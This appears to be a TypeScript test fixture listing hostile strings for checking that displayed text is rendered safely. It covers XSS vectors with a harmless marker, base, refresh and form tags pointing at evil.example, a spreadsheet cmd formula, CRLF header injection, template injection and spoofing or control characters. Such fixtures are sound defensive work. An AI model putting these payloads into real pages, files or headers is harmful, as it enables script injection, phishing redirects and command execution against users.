// What agents and origins may write where a person reads: markup, schemes that run, text that hides or turns.

/** Every one that runs would set `globalThis.ran` or ask for an image. */
export const hostileTexts: readonly string[] = [
  '"><svg onload=globalThis.ran=1>',
  "'><img src=x onerror=globalThis.ran=1>",
  '<script>globalThis.ran=1</script>',
  '</script><script>globalThis.ran=1</script>',
  '</textarea></title></style><svg/onload=globalThis.ran=1>',
  'javascript:globalThis.ran=1',
  'data:text/html,<script>globalThis.ran=1</script>',
  '" autofocus onfocus=globalThis.ran=1 x="',
  '` onmouseover=globalThis.ran=1 `',
  '&lt;script&gt;globalThis.ran=1&lt;/script&gt;',
  '<!--><img src=x onerror=globalThis.ran=1>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.ran=1&gt;">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Allow</button>',
  'a\u202egnp.exe',
  'zero\u200bwidth\u2060\ufeff',
  '\u001b[2J\u001b[31mred\u009b31m',
  'bell\u0007 nul\u0000 del\u007f',
  '\u2066isolate\u2069 \u{e0041}tag \ud800',
  '=cmd|\'/C calc\'!A0',
  'x\r\nset-cookie: a=b',
  '{{constructor.constructor("globalThis.ran=1")()}}',
]

/** No page may hold one of these. */
export const unsafeCharacters = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Surrogate}]/u
